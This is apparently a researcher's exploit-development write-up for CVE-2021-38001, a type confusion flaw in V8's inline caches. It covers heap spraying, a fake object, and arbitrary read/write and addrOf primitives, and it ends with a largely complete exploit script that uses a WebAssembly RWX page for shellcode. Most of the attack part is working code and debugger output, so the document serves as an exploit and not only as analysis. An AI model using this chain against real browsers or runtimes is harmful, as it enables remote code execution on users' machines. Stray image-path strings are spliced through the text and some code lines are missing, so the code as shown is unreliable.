 - sfi/code/info: 0x0ac30804a025 <JSGenerator>- script: 0x0ac3081d33c1 <Script>
 - origin: 0x0ac308049e19 <String[43]: "/root/research/v8/test/cve-2021-38001/1.mjs">
 - requested_modules: 0x0ac30800222d <FixedArray[0]>
 - import_meta: 0x0ac30800242d <the_hole>
 - cycle_root: 0x0ac3081d3535 <Other heap object (SOURCE_TEXT_MODULE_TYPE)>
 - async_evaluating_ordinal: 0

and exports is at 0x08049e8d:

its offset is module+0x4 bytes. Then we need to find the cell of exported value in a hash map:

and the cell value is at exports+0x28 bytes of offset. Since this is a hashmap, the value constantly changes, but you get the idea. We also see from the screenshot above that the value of cell is stored at 0x0804a095:

at the offset of cell+0x4 bytes’s address. And this will be the final value returned by IC. The full chain looks like this:

In my example, I named my JSModuleNamespace as foo, and the exported field as bar, hence the node.

Now if we look at this finding path diagram, we may notice that, when we assign additional properties to C, since the amount is not many, those values will be stored as in-object property. And at C+0xc bytes of offset, that is, after HiddenClass(4 bytes), Property(4 bytes), Elements(4 bytes), the value of Property1, hence the value of C.x0 = 0x40404040 / 2. But why do we need to divide the value to half? This is because how V8 handles SMall Integers(SMI) and pointers. This explanation by ChatGPT4 seems legit so I will throw it here:

In V8, Small Integers (SMIs) andpointers are treated differently by using a tagging mechanism. The least significant bit (LSB) of a value is used to differentiate between the two. Here’s an example illustrating how V8 represents SMIs and pointers:

Let’s say we have a 32-bit system. The least significant bit is used as a tag:

  1. For SMIs:
  • The least significant bit is set to 0.
  • The remaining 31 bits store the actual integer value,shifted left by 1 bit.

Example: The integer 42 (in binary: 101010) would be represented as an SMI as follows:

101010 << 1 = 1010100

So, the SMI representation of 42 would be 1010100 in binary, or 0x54 in hexadecimal.

  1. For pointers (objects or heap-allocated values):
  • The least significant bit is set to 1.
  • The remaining 31 bits store the memory address.

Example: Let’s assume we have a pointer to a memory address 0x12345678. In V8, the pointer would be represented as:

0x12345678 | 1 = 0x12345679

So, the V8 representation of the pointer would be 0x12345679.

This tagging mechanism allows V8 to distinguish between SMIs and pointers quickly by checking the least significant bit. If the LSB is 0, V8 knows it’s dealing with an SMI; if the LSB is 1, V8 knows it’s a pointer.

Please note that the example above is for a 32-bit system. In a 64-bit system, SMIs use a similar tagging mechanism but store 32-bit integer values in the lower 32 bits of a 64-bit word.


Now we know how type confusion happens, and how would IC access the confused property value. We need to develop a plan to exploit this into RCE to say the least. Last time when I exploited CVE-2020-6570, it’s caused by OOB read and write, so with limited read and write capabilities I was able to make addrOf and fakeObj function, and eventually more capable read and write functions. This time, we don’thave read and write capabilities. With type confusion, we can try to construct a fake object first, then addrOf and the rest stuff, but in order to achieve this, we need to know the address of our fake object, map info and such.

Heap Spray?

May I present you the heap spray technique in V8. I left a question mark in the title of section is because I don’t really understand what I’m about to do has anything to do with the ‘Heap Spray’ I used to know. Hcamael explained this really well, 10/10 would recommand, his blog in Chinese tho.

If we go back to gdb and use the vmmap command, we will see all memory segments used by V8, and we see one segment of them:

Contents in 0x081c0000 are:

pwndbg> x/16gx 0xa7c081c0000
                                                       block size
0xa7c081c0000:  0x00000000 00040000      0x0000000000000004
                                           another heap address               heap start address
0xa7c081c0010:  0x0000557d0db56e58      0x00000a7c 081c2118
                                                          current heap pointer             heap space left
0xa7c081c0020:  0x00000a7c 08200000      0x00000000 0003dee8
0xa7c081c0030:  0x0000000000000000      0x0000000000002118
0xa7c081c0040:  0x0000557d0dbd9200      0x0000557d0db48ea00xa7c081c0050:  0x00000a7c081c0000      0x0000000000040000
0xa7c081c0060:  0x0000557d0dbd71900x0000000000000000
0xa7c081c0070:  0xffffffffffffffff      0x0000000000000000

We see each heap block is 0x40000 bytes long, and it starts at 0x2118 offset. And an empty heap block will have 0x3dee8 bytesof space left. V8 allocates new heap blocks when the current one is not enough, so if we were to create a large array with size of almost 0x3dee8 bytes, it should force V8 to allocate a new heap block. And those heap blocks’ addresses are fixed, so if we construct our fake object in this large array, we will know its address right off the bat.

Let’s test this with some array declaration:

let a = Array(0x7bd0)

I decided to create adouble array, floats in V8 takes 8 bytes of space, and 0x7bd0 ~ (0x3dee8 / 8). This should fill an entire block, and a new block should appear.

We see now the heap segment ends at 0x08280000, and its size is now 0xc0000. If we look at memory content at 0x2118 offset of this new block, we see:

the map, size of array’s element, and the rest if full of float numbers. Next step is to use the knowledge we already have to construct a fake object. A fake object needs to have a map, property and element pointer. We also need to make sure the offsets are correct, such that when triggering type confusion, IC willreturn our fake object as value.

Fake Object

Again, Hcalmael purposed a smart way of setting up lookup chains by assigning C.x0 to an object with many properties:

    var obj_prop_ut_fake = {};
    for (var i = 0x0; i < 0x11; i++) {
        obj_prop_ut_fake['x'+i] = itof64(0, arr_addr + 8)

    C.prototype.__proto__ = foo;
    let c = new C();

    function trigger() {
        c.x0 = obj_prop_ut_fake;
        let a = c.m()
        return a;

if we think about a JSObject’s memory layout in memory, the first offset IC accesses is JSModuleNamespace->module, which is at the +0x4 offset. It will be a JSObject’s property array’s address. If an object is created with many properties, V8 will put the first few properties after elements pointer as in-object property. The rests will be stored in property array.

So this +0x4 offset will access object’s property array, and to continue, IC looks for the module->exports offset, which is randomized in a hashmap. This is why we need a loop to fill the properties with the same value, this is to make sure no matter which offset IC takes,it will always land the same address.

With this setup, we are done with JSModuleNamespace->module->exports, and the current pointer IC is at the cell of exported value, IC accesses value of the cell by getting the content at its +0x4 offset. That is to say, if we place our fake object at index i, then IC finds the address at arr[i]+0x4, which is the lower 4 bytes of arr[i+1].

We can now calculate the offsets and indexes we want to modify for fake object. Before this, we need a map’s value. Fake object should be a double array type, and we need to find a way to somehow get double array’s map address. Turns out I couldn’t figure out a good way of doing so, I am aware that V8 leaves the same map address fixed upon every execution, so I created a double array and copied its map address and put it as my fake object’s map.

    let arr_addr = 0x081c2119 + 0x80000
    let arr_index0_addr = arr_addr + 8
    let arr = Array(0x7bd0)

    // fake_obj@[arr_addr+0x8]
    fake_obj_addr = arr_addr + 0x100
    fake_obj_map_index = (fake_obj_addr - arr_index0_addr) / 8
    fake_obj_elm_index = fake_obj_map_index + 1// fake_array is now part of arr
    arr[fake_obj_map_index] = itof64(0x0800222d, 0x08203ae1)
    arr[fake_obj_elm_index] = itof64(0x00001000, arr_addr - 8)

Arbitrary Read and Write

And with fake object being crafted, we can now build a arbitrary read and write function:

let fake_obj = trigger()

function read(addr, n) {
        data = []
        arr[fake_obj_elm_index] = itof64(0x00001000, addr - 8)
        for (let i = 0; i < n; i++) {

        return data

console.log(ftoh(read(0x081c0008, 2)[0]))

and write:

function write(addr, data) {
        arr[fake_obj_elm_index] = itof64(0x00001000, addr - 8)
        fake_obj[0] = data


console.log(ftoh(read(0x081c1000, 1)[0]))
write(0x081c1000, itof64(0xdeadbeef, 0xcafebabe))
console.log(ftoh(read(0x081c1000, 1)[0]))

which totally works, so that’s good to know.Last step before RCE is to write a addrOf function. In order to do this, we need an object array instead, as we need to assign objects we want to read in the array, object arrays store objects by their pointer, then we can read it as a double value. We also need to know the address, though, but we can use the similar idea when creating the large double array. Since object array stores pointers, so its single element size will be 4 bytes instead of 8 bytes as it is in double array.

If we create a new largeobject array with size to fill a single heap block, it will be at 0x40000 after our double array. We can test it out:

let obj_arr = Array(0xf7a0)

read(0x081c2119 + 0xc0000, 10)

And let’s continue:

let test = {"sd": 1, "44": 42}

obj_arr[0] = test
read(obj_arr_addr + 8)

to make addrOf function:function addrOf(obj) {
        obj_arr[0] = obj
        let addr = read(obj_arr_addr + 8)[0]
        return (ftoi(addr) & 0xffffffffn)

The Rest

The rest is pretty much the same, finds the RWX memory segment, and write shellcode into it.

What Could Be Better…

I’m not sure if map addresses will stay fixed among different versions of V8/D8, but I assume so. A fully functional exploit should be able to work under any vulnerable environment, I believe. But with my current understanding and skills, I will say this is good enough for me. Personally, I don’t like my way of building fake object with hard-coded map address, but it really is the only way I can think of.


I’m sharing my notes out when doing this exploit development, feel free do read it.



export let bar = {}


import('./1.mjs').then((foo) => {

    var wasm_code = new Uint8Array([0,97,115,109,1,0,0,0,1,133,128,128,128,0,1,96,0,1,127,3,130,128,128,128,0,1,0,4,132,128,128,128,0,1,112,0,0,5,131,128,128,128,0,1,0,1,6,129,128,128,128,0,0,7,145,128,128,128,0,2,6,109,101,109,111,114,121,2,0,4,109,97,105,110,0,0,10,138,128,128,128,0,1,132,128,128,128,0,0,65,42,11]);
    var wasm_module = new WebAssembly.Module(wasm_code);
    var wasm_instance = new WebAssembly.Instance(wasm_module, {});
    var shell = wasm_instance.exports.main;

    var f64 = new Float64Array(1);
    var bigUint64 = new BigUint64Array(f64.buffer);

    function ftoi(f){
        f64[0] = f;
        return bigUint64[0];

    function itof(i){bigUint64[0] = BigInt(i);
        return f64[0];

    function itof64(h, l){
        return itof((BigInt(h) << 32n) + BigInt(l))

    function ftoh(f){
        return itoh(ftoi(f));

    function itoh(i){
        var pad = 16;
        if (BigInt(i) < 0){
            i = BigInt(i) & 0xffffffffn
        if (BigInt(i) >> 32n == 0){
            pad = 8;
        return '0x'+i.toString(16).padStart(pad, "0");

    letarr_addr = 0x081c2119 + 0x80000
    let arr_index0_addr = arr_addr + 8
    let arr = Array(0x7bd0)

    // fake_obj@[arr_addr+0x8]
    fake_obj_addr = arr_addr + 0x100
    fake_obj_map_index = (fake_obj_addr - arr_index0_addr) / 8
    fake_obj_elm_index = fake_obj_map_index + 1

    // fake_array is now part of arr
    arr[fake_obj_map_index] = itof64(0x0800222d, 0x08203ae1)arr[fake_obj_elm_index] = itof64(0x00001000, arr_addr - 8)

    let obj_arr = Array(0xf7a0)
    let obj_arr_addr = 0x081c2119 + 0xc0000

    class C {
        m() {

    var obj_prop_ut_fake = {};
    for (var i = 0x0; i < 0x11; i++) {
        obj_prop_ut_fake['x'+i] = itof64(0, fake_obj_addr)

    C.prototype.__proto__ = foo;
    let c = new C();

    function trigger() {
        c.x0 = obj_prop_ut_fake;
        let a = c.m()
        return a;

    for (var i=0;i<0x20;i++) {

    let fake_obj = trigger()

    function read(addr, n=1) {
